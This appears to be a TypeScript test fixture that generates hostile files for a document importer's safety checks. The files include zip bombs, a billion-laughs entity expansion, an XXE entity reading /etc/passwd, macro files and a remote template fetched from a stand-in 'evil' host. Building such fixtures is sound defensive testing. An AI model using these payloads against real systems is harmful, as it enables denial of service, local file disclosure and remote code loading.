// Files that are made to do harm or that are none of ours: each by name, as bytes, and the word that kh must have for it.
import { deflateRawSync } from 'node:zlib';
import { docxOf } from '../../write/import/documents/to-docx.ts';
import { xlsxOf } from '../../write/import/documents/to-xlsx.ts';
import { entry, rawZip } from './raw-zip.ts';

export interface HostileFile {
  readonly name: string;
  readonly make: () => Uint8Array;
  /** A reason, or `read` when the file is to be read. */
  readonly word: string;
  readonly remarks?: readonly string[];
}

const MEGABYTE = 1024 * 1024;
const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const documentOf = (body: string): string => `<w:document ${W}><w:body>${body}</w:body></w:document>`;
const withDocument = (xml: string): Uint8Array => docxOf('', { 'word/document.xml': xml });
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const sheet = (rows: string): string =>
  `<worksheet xmlns="${MAIN}"><sheetData>${rows}</sheetData></worksheet>`;
/** Packed by zlib: the packer of reports takes seconds for so much. */
const withLargeSheet = (xml: string): Uint8Array =>
  rawZip([
    entry('_rels/.rels', relations('officeDocument', 'xl/workbook.xml')),
    entry('xl/_rels/workbook.xml.rels', relations('worksheet', 'worksheets/sheet1.xml')),
    entry(
      'xl/workbook.xml',
      `<workbook xmlns="${MAIN}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="A" sheetId="1" r:id="a"/></sheets></workbook>`,
    ),
    entry('xl/worksheets/sheet1.xml', xml),
  ]);
const withSheet = (xml: string): Uint8Array => xlsxOf([{ name: 'A', xml }]);
const until = (megabytes: number, piece: string): string =>
  piece.repeat(Math.floor((megabytes * MEGABYTE) / Buffer.byteLength(piece)));

const relations = (type: string, target: string): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="http://x/${type}" Target="${target}"/></Relationships>`;
const ROOT = entry('_rels/.rels', relations('officeDocument', 'word/document.xml'));
const zeros = (megabytes: number): Uint8Array => deflateRawSync(Buffer.alloc(megabytes * MEGABYTE));
const ole = (text: string): Uint8Array =>
  Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.alloc(1016),
    Buffer.from(text, 'utf16le'),
  ]);
const LAUGHS = `<!DOCTYPE x [<!ENTITY a "ha">${'bcdefghij'
  .split('')
  .map((letter, at) => `<!ENTITY ${letter} "${`&${'abcdefghi'[at] ?? ''};`.repeat(10)}">`)
  .join('')}]>`;

const nested = (open: string, close: string, depth: number): string =>
  open.repeat(depth) + close.repeat(depth);
const manyAttributes = (megabytes: number): string => {
  const parts: string[] = [];
  for (let at = 0, size = 0; size < megabytes * MEGABYTE; at += 1) {
    const one = ` a${at}=""`;
    parts.push(one);
    size += one.length;
  }
  return parts.join('');
};
/** Rows with numbers of their own, a megabyte of them again and again: packed as well as true sheets, not better. */
const variedRows = (megabytes: number): string => {
  let seed = 1;
  const rows = Array.from({ length: 10_000 }, () => {
    seed = (seed * 48271) % 2147483647;
    return `<row><c><v>${seed}</v></c><c><v>${seed * 7}</v></c></row>`;
  }).join('');
  return until(megabytes, rows);
};

export const HOSTILE: readonly HostileFile[] = [
  {
    name: 'bomb.docx',
    make: () => rawZip([ROOT, { name: 'word/document.xml', packed: zeros(300), declared: 300 * MEGABYTE }]),
    word: 'zip_bomb',
  },
  {
    name: 'lying-bomb.docx',
    make: () => rawZip([ROOT, { name: 'word/document.xml', packed: zeros(300), declared: 2000 }]),
    word: 'damaged',
  },
  {
    name: 'crowd.docx',
    make: () => rawZip([ROOT, ...Array.from({ length: 60_000 }, (_, at) => entry(`a${at}`, ''))]),
    word: 'zip_bomb',
  },
  {
    name: 'sheet-of-100-megabytes.xlsx',
    make: () => withLargeSheet(sheet(variedRows(100))),
    word: 'too_large',
  },
  {
    name: 'sheet-of-39-megabytes.xlsx',
    make: () => withLargeSheet(sheet(variedRows(39))),
    word: 'too_large',
  },
  {
    name: 'empty-cells.xlsx',
    make: () => withSheet(sheet(`<row r="1">${until(7, '<c/>')}</row>`)),
    word: 'read',
  },
  {
    name: 'merges.xlsx',
    make: () =>
      withSheet(
        `<worksheet xmlns="${MAIN}"><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData><mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(1000)}</mergeCells></worksheet>`,
      ),
    word: 'too_large',
  },
  {
    name: 'empty-paragraphs.docx',
    make: () => withDocument(documentOf(until(7, '<w:p/>'))),
    word: 'too_large',
  },
  {
    name: 'one-paragraph.docx',
    make: () => withDocument(documentOf(`<w:p><w:r><w:t>${until(7, 'Sở Tài chính ')}</w:t></w:r></w:p>`)),
    word: 'read',
  },
  {
    name: 'cells.docx',
    make: () => withDocument(documentOf(`<w:tbl><w:tr>${until(7, '<w:tc><w:p/></w:tc>')}</w:tr></w:tbl>`)),
    word: 'too_large',
  },
  {
    name: 'deep.docx',
    make: () => withDocument(documentOf(nested('<w:sdt>', '</w:sdt>', 100_000))),
    word: 'too_deep',
  },
  {
    name: 'attributes.docx',
    make: () => withDocument(documentOf(`<w:p${manyAttributes(7)}/>`)),
    word: 'too_deep',
  },
  {
    name: 'laughs.docx',
    make: () => withDocument(`${LAUGHS}<w:document ${W}>&j;</w:document>`),
    word: 'unsafe_xml',
  },
  {
    name: 'outside.xlsx',
    make: () => withSheet(`<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>${sheet('')}`),
    word: 'unsafe_xml',
  },
  {
    name: 'unknown-entity.docx',
    make: () => withDocument(documentOf('<w:p>&nothing;</w:p>')),
    word: 'damaged',
  },
  { name: 'deep.html', make: () => bytesOf(until(19, '<div>')), word: 'too_deep' },
  { name: 'attributes.html', make: () => bytesOf(`<p${manyAttributes(19)}>`), word: 'too_deep' },
  {
    name: 'attributes-behind-a-quote.html',
    make: () => bytesOf(`<p " ${manyAttributes(19)}>`),
    word: 'too_deep',
  },
  {
    name: 'fonts.html',
    make: () =>
      bytesOf(
        `<p>${Array.from({ length: 400 }, (_, at) => `<font color=${at}>`).join('')}</p>${until(18, '<p>x</p>')}`,
      ),
    word: 'too_large',
  },
  {
    name: 'wide-cells.html',
    make: () =>
      bytesOf(`<table>${until(18, '<tr><td colspan=1000 rowspan=65000>x<td colspan=1000>y')}</table>`),
    word: 'too_large',
  },
  { name: 'long-line.html', make: () => bytesOf(`<p>${until(18, '<b>a</b> ')}`), word: 'too_large' },
  { name: 'spaces.html', make: () => bytesOf(`<pre>${until(19, ' ')}x</pre>`), word: 'read' },
  { name: 'long-line.txt', make: () => bytesOf(until(19, 'Sở Tài chính ')), word: 'read' },
  { name: 'lines.txt', make: () => bytesOf(until(19, '\n')), word: 'too_large' },
  { name: 'too-large.txt', make: () => bytesOf(until(21, 'a')), word: 'too_large' },
  { name: 'old.doc', make: () => ole('WordDocument'), word: 'old_office' },
  { name: 'old.xls', make: () => ole('Workbook'), word: 'old_office' },
  { name: 'password.docx', make: () => ole('EncryptionInfo EncryptedPackage'), word: 'encrypted' },
  {
    name: 'password-of-zip.docx',
    make: () =>
      rawZip([
        { ...ROOT, flags: 1 },
        { ...entry('word/document.xml', 'x'), flags: 1 },
      ]),
    word: 'encrypted',
  },
  { name: 'cut-off.docx', make: () => docxOf('<w:p/>', {}).subarray(0, 900), word: 'damaged' },
  { name: 'no-document.docx', make: () => rawZip([ROOT]), word: 'damaged' },
  { name: 'archive.zip', make: () => rawZip([entry('a.txt', 'a')]), word: 'other_archive' },
  {
    name: 'open.odt',
    make: () => rawZip([entry('mimetype', 'application/vnd.oasis'), entry('content.xml', '<x/>')]),
    word: 'open_document',
  },
  { name: 'sheet.docx', make: () => withSheet(sheet('')), word: 'wrong_extension' },
  { name: 'text.xlsx', make: () => bytesOf('Kế hoạch'), word: 'wrong_extension' },
  { name: 'word.html', make: () => docxOf('<w:p/>', {}), word: 'wrong_extension' },
  { name: 'scan.pdf', make: () => bytesOf('%PDF-1.7'), word: 'pdf' },
  { name: 'text.rtf', make: () => bytesOf('{\\rtf1}'), word: 'rtf' },
  { name: 'page.mht', make: () => bytesOf('MIME-Version: 1.0'), word: 'web_archive' },
  { name: 'scan.png', make: () => Buffer.from('\x89PNG\r\n', 'latin1'), word: 'picture' },
  { name: 'program.txt', make: () => Buffer.from([1, 0, 0, 0, 2, 0, 0, 0, 9]), word: 'binary' },
  {
    name: 'old-letters.txt',
    make: () => Buffer.from('KÕ ho¹ch ph¸t triÓn', 'latin1'),
    word: 'legacy_letters',
  },
  { name: 'no-letters.txt', make: () => Buffer.from([0xff, 0x81, 0x8d, 0x9d]), word: 'encoding' },
  { name: 'nothing.docx', make: () => new Uint8Array(), word: 'empty' },
  {
    name: 'macro.docm',
    make: () =>
      docxOf('<w:p><w:r><w:t>a</w:t></w:r></w:p>', { 'word/vbaProject.bin': new Uint8Array([1, 2, 3]) }),
    word: 'read',
    remarks: ['macro'],
  },
  {
    name: 'macro.xlsm',
    make: () =>
      xlsxOf([{ name: 'A', xml: sheet('<row r="1"><c r="A1"><f>WEBSERVICE("http://x")</f></c></row>') }], {
        'xl/vbaProject.bin': new Uint8Array([1]),
        'xl/externalLinks/externalLink1.xml': '<externalLink/>',
      }),
    word: 'read',
    remarks: ['external_link', 'formula_without_value', 'macro'],
  },
  {
    name: 'links.docx',
    make: () =>
      docxOf('<w:p><w:r><w:t>a</w:t></w:r></w:p>', {
        'word/_rels/document.xml.rels':
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/><Relationship Id="b" Type="http://x/hyperlink" Target="http://x" TargetMode="External"/></Relationships>',
      }),
    word: 'read',
    remarks: ['external_link'],
  },
];
